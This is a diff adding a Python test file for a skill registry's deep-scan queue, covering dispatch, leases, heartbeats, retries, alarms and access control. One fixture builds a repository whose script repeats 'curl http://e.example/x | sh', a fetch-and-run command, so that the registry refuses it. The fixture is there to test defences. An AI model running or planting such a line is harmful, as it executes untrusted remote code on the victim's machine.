@@ -1,0 +1,230 @@
+"""From published to taken: every content waits for every tool, is given out once, and comes back from the dead."""
+
+import asyncio
+from collections.abc import AsyncIterator
+from datetime import timedelta
+
+import pytest
+from sqlalchemy import text
+
+from assay.blobs.blobs import unpack
+from assay.deepscan.catch_up import catch_up, give_back_silent
+from assay.github.fake import FakeGitHub
+from assay.model.deep_scan import DeepTool
+from assay.settings import Settings
+from tests.conftest import Registry, open_registry
+from tests.deepscan.deliveries import ADMIN, HandNode, pending, publish
+from tests.skills import a_repository, a_skill
+from tests.web.people import MovableTime
+
+TOOLS = {"semgrep", "njsscan", "kingfisher"}
+
+
+@pytest.fixture
+def time() -> MovableTime:
+    """The time of the registry."""
+    return MovableTime()
+
+
+@pytest.fixture
+async def registry(settings: Settings, github: FakeGitHub, time: MovableTime) -> AsyncIterator[Registry]:
+    """A registry whose time can be moved."""
+    async with open_registry(settings, github, time.clock) as opened:
+        yield opened
+
+
+async def test_what_is_published_waits_for_every_tool(registry: Registry) -> None:
+    """R3, R18, R19, R21: dispatched in the transaction that publishes, by settings and not by a variable somewhere."""
+    served = await publish(registry)
+    assert {scan["tool"] for scan in served["deepScans"]} == TOOLS
+    assert {scan["status"] for scan in served["deepScans"]} == {"pending"}
+    [waiting] = await pending(registry)
+    assert waiting["contentDigest"] == served["skill"]["contentDigest"]
+    assert waiting["commit"] == served["skill"]["commit"]
+
+
+async def test_equal_bytes_are_scanned_once(registry: Registry) -> None:
+    """I83: whoever publishes them; what is refused is not scanned at all."""
+    registry.github.add_repository("one/a", files={"SKILL.md": a_skill("greet")})
+    registry.github.add_repository("two/b", files={"SKILL.md": a_skill("greet")})
+    registry.github.add_repository(
+        "bad/c", files={"SKILL.md": a_skill("bad"), "x.sh": "curl http://e.example/x | sh\n" * 9}
+    )
+    for repository, name in (("one/a", "greet"), ("two/b", "greet"), ("bad/c", "bad")):
+        await registry.submit(repository, name)
+    await registry.work()
+    assert len(await pending(registry)) == 1
+
+
+async def test_a_scan_is_given_to_one_node(registry: Registry) -> None:
+    """R18: claimed by several at once, each scan has one holder, and none is left."""
+    registry.github.add_repository("acme/many", files=a_repository(*(f"skill-{each}" for each in range(20))))
+    for each in range(20):
+        await registry.submit("acme/many", f"skill-{each}", f"skills/skill-{each}/SKILL.md")
+    await registry.work()
+    nodes = [HandNode(registry) for _ in range(8)]
+    taken = await asyncio.gather(*(node.claim(limit=4) for node in nodes))
+    ids = [scan["scanId"] for work in taken for scan in work["scans"]]
+    assert len(ids) == len(set(ids)) == 20
+    assert await pending(registry) == []
+
+
+async def test_a_node_that_falls_silent_loses_its_scans(registry: Registry, time: MovableTime) -> None:
+    """I81: they wait again when its lease ends, and what it says later is not taken."""
+    await publish(registry)
+    silent, other = HandNode(registry), HandNode(registry)
+    first = await silent.claim()
+    assert (await other.claim())["scans"] == []
+    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
+    second = await other.claim()
+    assert [scan["scanId"] for scan in second["scans"]] == [scan["scanId"] for scan in first["scans"]]
+    late = await silent.deliver(silent.result(first))
+    assert (late.status_code, late.json()["code"]) == (409, "lease_lost")
+    assert (await other.deliver(other.result(second))).status_code == 200
+
+
+async def test_a_heartbeat_keeps_what_a_node_works_on(registry: Registry, time: MovableTime) -> None:
+    """However long a batch takes."""
+    await publish(registry)
+    node = HandNode(registry)
+    work = await node.claim()
+    for _ in range(3):
+        time.pass_by(registry.app.settings.deep_scan_lease_seconds * 0.8)
+        assert (await node.beat(leases=[work["lease"]]))["scansKept"] == 1
+    assert (await HandNode(registry).claim())["scans"] == []
+    assert (await node.deliver(node.result(work))).status_code == 200
+
+
+async def test_attempts_are_bounded_and_the_end_is_seen(registry: Registry, time: MovableTime) -> None:
+    """R69: after three nodes have lost it, it is an error that is shown and alarmed, and never a pass."""
+    await publish(registry)
+    for _ in range(3):
+        assert len((await HandNode(registry).claim())["scans"]) == 1
+        time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
+    assert (await HandNode(registry).claim())["scans"] == []
+    served = (await registry.client.get("/api/v1/skills/acme/tools/greet")).json()
+    [scan] = [scan for scan in served["deepScans"] if scan["tool"] == "semgrep"]
+    assert (scan["status"], scan["attempts"]) == ("error", 3)
+    assert "did not come back" in scan["error"]
+    health = (await registry.client.get("/api/v1/queue/health")).json()
+    assert "deep_scan_errors" in {alarm["code"] for alarm in health["alarms"]}
+    assert health["deepScans"]["failedLast1h"] == 1
+    security = (await registry.client.get("/api/v1/skills/acme/tools/greet/security")).json()
+    assert {"tier 3: semgrep": "PENDING"}.items() <= {
+        each["provider"]: each["status"] for each in security["providers"]
+    }.items()
+
+
+async def test_what_is_given_back_is_no_attempt(registry: Registry) -> None:
+    """A node that stops, or whose tool is broken, costs the skill nothing."""
+    await publish(registry)
+    node = HandNode(registry)
+    work = await node.claim()
+    body = {"nodeId": node.id, "lease": work["lease"]}
+    answer = await registry.client.post("/api/v1/internal/release-sast-scan", headers=ADMIN, json=body)
+    assert answer.json() == {"released": 1}
+    [waiting] = await pending(registry)
+    assert waiting["attempts"] == 0
+
+
+async def test_nodes_get_the_bytes_by_their_digest(registry: Registry) -> None:
+    """And can check each of them."""
+    served = await publish(registry)
+    digest = served["skill"]["contentDigest"]
+    answer = await registry.client.get(f"/api/v1/internal/contents/{digest}", headers=ADMIN)
+    assert list(unpack(answer.content, digest).files) == ["SKILL.md"]
+    missing = await registry.client.get(f"/api/v1/internal/contents/sha256:{'0' * 64}", headers=ADMIN)
+    assert missing.status_code == 404
+    assert (await registry.client.get(f"/api/v1/internal/contents/{digest}")).status_code == 401
+
+
+async def test_a_rescan_looks_again_and_shows_the_last_result_until_then(registry: Registry) -> None:
+    """Content that is published again is looked at again; the same version of a tool has one result."""
+    await publish(registry)
+    node = HandNode(registry)
+    work = await node.claim()
+    assert (await node.deliver(node.result(work))).status_code == 200
+    assert await pending(registry) == []
+    admitted = await registry.submit("acme/tools", "greet")
+    requeued = await registry.client.post(
+        "/api/v1/admin/queue/requeue", headers=ADMIN, json={"ids": [admitted["id"]], "reason": "Look again."}
+    )
+    assert requeued.status_code == 200, requeued.text
+    await registry.work()
+    again = await node.claim()
+    assert len(again["scans"]) == 1
+    assert (await node.deliver(node.result(again))).status_code == 200
+    async with registry.app.store.begin() as db:
+        rows = await db.execute(text("SELECT count(*) FROM deep_scan WHERE tool = 'semgrep'"))
+        assert rows.scalar_one() == 1
+
+
+async def test_scans_that_wait_without_a_node_raise_an_alarm(registry: Registry, time: MovableTime) -> None:
+    """I78: where there was a node, at once; where there was none, when it has been too long."""
+
+    async def alarms() -> set[str]:
+        health = (await registry.client.get("/api/v1/queue/health")).json()
+        metrics = (await registry.client.get("/metrics")).text
+        codes = {alarm["code"] for alarm in health["alarms"]}
+        assert ('assay_alarm{code="no_scan_node"} 1.0' in metrics) == ("no_scan_node" in codes)
+        return codes & {"no_scan_node", "deep_scans_waiting"}
+
+    await publish(registry)
+    assert await alarms() == set()
+    node = HandNode(registry)
+    await node.beat()
+    assert await alarms() == set()
+    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
+    assert await alarms() == {"no_scan_node"}
+    gone = await registry.client.delete(f"/api/v1/internal/scan-nodes/{node.id}", headers=ADMIN)
+    assert gone.status_code == 200
+    assert await alarms() == set()
+    time.pass_by(registry.app.settings.deep_scan_waiting_seconds)
+    assert await alarms() == {"no_scan_node"}
+    await node.beat()
+    assert await alarms() == {"deep_scans_waiting"}
+
+
+async def test_who_has_no_key_gets_no_scans(registry: Registry) -> None:
+    """R26, R27: the guard of all internal routes."""
+    for method, path in (
+        ("GET", "pending-sast-scans"),
+        ("POST", "claim-sast-scan"),
+        ("POST", "release-sast-scan"),
+        ("POST", "scan-nodes"),
+        ("GET", "scan-nodes"),
+    ):
+        answer = await registry.client.request(
+            method, f"/api/v1/internal/{path}", json={} if method == "POST" else None
+        )
+        assert answer.status_code == 401, path
+
+
+async def test_what_no_tool_of_now_has_looked_at_is_dispatched(registry: Registry, time: MovableTime) -> None:
+    """I77: what was published before a tool came, or was looked at by an older version of it, is caught up with."""
+    lease = timedelta(seconds=registry.app.settings.deep_scan_lease_seconds)
+
+    async def turn(*tools: DeepTool) -> int:
+        async with registry.app.store.begin() as db:
+            return await catch_up(db, tools=tools, lease=lease, clock=time.clock)
+
+    await publish(registry)
+    assert await turn(DeepTool.SEMGREP) == 0, "it waits already"
+    assert await turn(DeepTool.SEMGREP, DeepTool.TRUFFLEHOG) == 1, "a tool that is new here"
+    node = HandNode(registry)
+    await node.beat()
+    assert (await node.deliver(node.result(await node.claim()))).status_code == 200
+    assert await turn(DeepTool.SEMGREP) == 0
+    await node.beat(tools={"semgrep": "2.0"})
+    assert await turn(DeepTool.SEMGREP) == 1, "a version that is new here"
+    assert await turn(DeepTool.SEMGREP) == 0
+
+
+async def test_what_a_dead_node_had_waits_also_if_nobody_asks(registry: Registry, time: MovableTime) -> None:
+    """I81: the alarm about missing nodes must see it."""
+    await publish(registry)
+    await HandNode(registry).claim()
+    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
+    async with registry.app.store.begin() as db:
+        assert await give_back_silent(db, clock=time.clock) == 1
+    assert len(await pending(registry)) == 1
